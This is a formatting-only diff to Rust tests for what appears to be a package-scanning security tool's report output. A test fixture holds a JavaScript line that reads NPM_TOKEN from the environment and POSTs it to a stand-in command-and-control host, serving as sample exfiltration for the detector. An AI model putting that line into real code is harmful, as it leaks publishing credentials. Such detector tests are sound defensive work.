@@ -8,8 +8,8 @@ use expect_test::{Expect, expect};
 
 use super::*;
 use crate::report::{
-    Capability, CapabilityUse, Confidence, Effect, EffectKind, Evidence, Finding, Issue, IssueKind,
-    Position, Range, Reach, Report, SCHEMA_VERSION, Stats, Summary, Suppressed, Tool, Verdict,
+    Capability, CapabilityUse, Confidence, Effect, EffectKind, Evidence, Finding, Issue, IssueKind, Position, Range,
+    Reach, Report, SCHEMA_VERSION, Stats, Summary, Suppressed, Tool, Verdict,
 };
 
 const SOURCE: &str = "const os = require('os');\nconst token = process.env.NPM_TOKEN;\n\nfetch('https://c2.example.invalid', { method: 'POST', body: token });\n";
@@ -18,10 +18,7 @@ fn range(source: &str, piece: &str) -> Range {
     let start = source.find(piece).unwrap();
     let at = |offset: usize| {
         let line = source[..offset].matches('\n').count();
-        let column = offset
-            - source[..offset]
-                .rfind('\n')
-                .map_or(0, |newline| newline + 1);
+        let column = offset - source[..offset].rfind('\n').map_or(0, |newline| newline + 1);
         Position {
             line: u32::try_from(line).unwrap(),
             character: u32::try_from(column).unwrap(),
@@ -316,10 +313,7 @@ fn nothing_from_a_package_reaches_the_terminal_as_it_is() {
         let bad = ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\r', '\u{200b}'];
         assert!(!text.contains(bad), "{text:?}");
         // A line break from a package cannot fake a line of the report.
-        assert!(
-            !text.lines().any(|line| line.starts_with("<U+200B>")),
-            "{text}"
-        );
+        assert!(!text.lines().any(|line| line.starts_with("<U+200B>")), "{text}");
     }
 }
 
@@ -393,15 +387,10 @@ fn few_packages_get_a_line_each() {
 
 #[test]
 fn many_packages_are_counted_by_power() {
-    let mut packages: Vec<_> = (0..30)
-        .map(|index| pure(&format!("pure-{index}")))
-        .collect();
+    let mut packages: Vec<_> = (0..30).map(|index| pure(&format!("pure-{index}"))).collect();
     packages.push(report(Vec::new()));
     for index in 0..14 {
-        let (file, message) = (
-            format!("f{index}.js"),
-            "cannot read it: permission denied".to_owned(),
-        );
+        let (file, message) = (format!("f{index}.js"), "cannot read it: permission denied".to_owned());
         packages[0].issues.push(Issue {
             kind: IssueKind::Unreadable,
             file,
@@ -474,9 +463,7 @@ fn weak_findings_of_many_packages_are_a_line_each() {
     assert_eq!(text.matches("╭▸").count(), 1, "{text}");
     let weak = "  low[data-exfiltration]: an access token is sent to c2.example.invalid";
     assert!(
-        text.ends_with(&format!(
-            "\n\n{weak} (lib/index.js:4:1, and 1\n    more)\n\n"
-        )),
+        text.ends_with(&format!("\n\n{weak} (lib/index.js:4:1, and 1\n    more)\n\n")),
         "{text}"
     );
 }
